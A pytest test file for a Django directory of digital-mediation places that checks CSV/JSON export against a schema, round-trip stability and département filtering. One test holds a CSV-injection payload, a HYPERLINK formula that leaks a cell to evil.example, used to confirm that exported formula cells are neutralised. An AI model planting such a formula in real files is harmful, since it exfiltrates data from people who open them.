"""export-places writes the standard v1.0.2, valid against the official schema.json
(checked with frictionless, a Table Schema validator), and import → export → import
changes nothing."""

import csv
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from frictionless import Resource, Schema

from maillage.directory.models import Place
from maillage.directory.standard import COLUMNS
from tests.conftest import require_shared_data
from tests.directory.formats.test_converters import REAL_FILES

pytestmark = pytest.mark.django_db

SCHEMA = "standard-mediation-num/schema.json"
HUB_DU_SUD_CSV = "hub-du-sud-paca/lieux-de-mediation-numerique-paca.v1.csv"


def _import(path, *extra):
    out = StringIO()
    call_command("import-places", str(path), "--no-progress", *extra, stdout=out)
    return out.getvalue()


def _export(tmp_path, name, *extra):
    target = tmp_path / name
    call_command("export-places", "--output", str(target), *extra, stderr=StringIO())
    return target


def _schema_errors(path, file_format):
    schema = Schema.from_descriptor(json.loads(require_shared_data(SCHEMA).read_text("utf-8")))
    report = Resource(
        path=path.name, basepath=str(path.parent), schema=schema, format=file_format
    ).validate()
    return [
        f"{error.type}: {getattr(error, 'field_name', '')}: {error.note}"
        for task in report.tasks
        for error in task.errors
    ]


def test_every_real_file_imported_then_exported_is_valid_against_the_schema(tmp_path):
    for relative in REAL_FILES:
        _import(require_shared_data(relative))
    total = Place.objects.count()
    assert total > 3000
    csv_file = _export(tmp_path, "lieux.csv")
    json_file = _export(tmp_path, "lieux.json", "--format", "json")
    assert _schema_errors(csv_file, "csv") == []
    assert _schema_errors(json_file, "json") == []
    header = csv_file.read_text(encoding="utf-8").splitlines()[0]
    assert header.split(",") == list(COLUMNS)
    assert len(json.loads(json_file.read_text(encoding="utf-8"))) == total
    ids = [row["id"] for row in json.loads(json_file.read_text(encoding="utf-8"))]
    assert len(set(ids)) == total  # the schema's primary key


@pytest.mark.parametrize("file_format", ["csv", "json"])
def test_import_export_import_is_a_fixed_point(tmp_path, file_format):
    for relative in (
        HUB_DU_SUD_CSV,
        "france-services/liste-fs-paca.csv",
        "aix-en-provence/aix-en-provence.json",
    ):
        _import(require_shared_data(relative))
    count = Place.objects.count()
    first = _export(tmp_path, f"first.{file_format}", "--format", file_format)
    # Into the same hub: nothing changes.
    assert f"0 created, 0 updated, {count} unchanged, 0 rejected" in _import(first)
    # Into an empty hub: the same places, written out the same way.
    Place.objects.all().delete()
    assert f"{count} created, 0 updated, 0 unchanged, 0 rejected" in _import(first)
    second = _export(tmp_path, f"second.{file_format}", "--format", file_format)
    assert first.read_text(encoding="utf-8") == second.read_text(encoding="utf-8")


def test_ids_shared_by_two_sources_stay_unique_and_come_back(tmp_path):
    row = "id,pivot,nom,commune,code_postal,adresse,date_maj,source\n1,21840080100019,{},Monteux,84170,Place,2024-01-01,{}\n"
    for source in ("a", "b"):
        (tmp_path / f"{source}.csv").write_text(
            row.format(f"EPN {source}", source), encoding="utf-8"
        )
        _import(tmp_path / f"{source}.csv")
    exported = _export(tmp_path, "both.csv")
    text = exported.read_text(encoding="utf-8")
    assert "\na/1," in text and "\nb/1," in text
    assert "0 created, 0 updated, 2 unchanged" in _import(exported)


def test_one_departement_and_approximate_points(tmp_path):
    _import(require_shared_data("nice-cyber-espaces/coordonnees-cyber-espaces.original.csv"))
    _import(require_shared_data(HUB_DU_SUD_CSV))
    vaucluse = _export(tmp_path, "84.json", "--format", "json", "--departement", "84")
    rows = json.loads(vaucluse.read_text(encoding="utf-8"))
    assert rows and all(row["code_postal"].startswith("84") for row in rows)
    assert len(rows) == Place.objects.filter(commune__departement_id="84").count()
    # Nice is not in the test territory: its cyber-espaces have no point, and an exported
    # approximate point would pass for an exact one, so none is ever written.
    approximate = Place.objects.filter(location_exact=False).exclude(latitude=None)
    assert approximate.exists()
    everything = json.loads(
        _export(tmp_path, "all.json", "--format", "json").read_text(encoding="utf-8")
    )
    by_id = {row["id"]: row for row in everything}
    for place in approximate:
        assert "latitude" not in by_id[place.source_id]


def test_an_unknown_departement_is_refused(tmp_path):
    with pytest.raises(CommandError, match="no département has the code '99'"):
        call_command("export-places", "--departement", "99", "--output", str(tmp_path / "x.csv"))
    assert not (tmp_path / "x.csv").exists()


def test_export_to_standard_output():
    out = StringIO()
    call_command("export-places", stdout=out)
    assert out.getvalue().splitlines() == [",".join(COLUMNS)]


PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'


def _source(tmp_path, **values):
    source = tmp_path / "source.csv"
    row = {"id": "x1", "pivot": "21840080100019", "nom": "EPN", "commune": "Monteux",
           "code_postal": "84170", "adresse": "Place du Marché", "date_maj": "2024-01-01",
           "latitude": "44.0359", "longitude": "4.9972", "telephone": "+33490000000", **values}  # fmt: skip
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
    return source


def test_csv_cells_that_would_be_formulas_get_an_apostrophe(tmp_path):
    """Security review, finding 3: a name such as "=HYPERLINK(…)" is written "'=HYPERLINK(…)"
    in CSV and import-places reads it back as it was; coordinates and phones stay as they
    are; JSON, which no spreadsheet opens, keeps the value as it is."""
    _import(_source(tmp_path, nom=PAYLOAD, adresse="@Place du Marché"))
    first = _export(tmp_path, "first.csv")
    row = next(csv.DictReader(first.open(encoding="utf-8")))
    assert row["nom"] == "'" + PAYLOAD and row["adresse"] == "'@Place du Marché"
    assert (row["latitude"], row["longitude"], row["telephone"]) == (
        "44.0359", "4.9972", "+33490000000"
    )  # fmt: skip
    assert not [value for value in row.values() if value.startswith(("=", "@"))]
    assert _schema_errors(first, "csv") == []
    as_json = json.loads(_export(tmp_path, "places.json", "--format", "json").read_text("utf-8"))
    assert as_json[0]["nom"] == PAYLOAD
    # Imported back, the place is unchanged: export → import → export is a fixed point.
    assert "0 created, 0 updated, 1 unchanged" in _import(first)
    assert Place.objects.get().nom == PAYLOAD
    assert first.read_text("utf-8") == _export(tmp_path, "second.csv").read_text("utf-8")


def test_the_apostrophe_keeps_the_summary_within_the_schema_limit(tmp_path):
    _import(_source(tmp_path, presentation_resume="- " + "x" * 278))  # 280 characters
    resume = next(csv.DictReader(_export(tmp_path, "first.csv").open(encoding="utf-8")))[
        "presentation_resume"
    ]
    assert resume == "'- " + "x" * 276 + "…"
    assert _schema_errors(tmp_path / "first.csv", "csv") == []
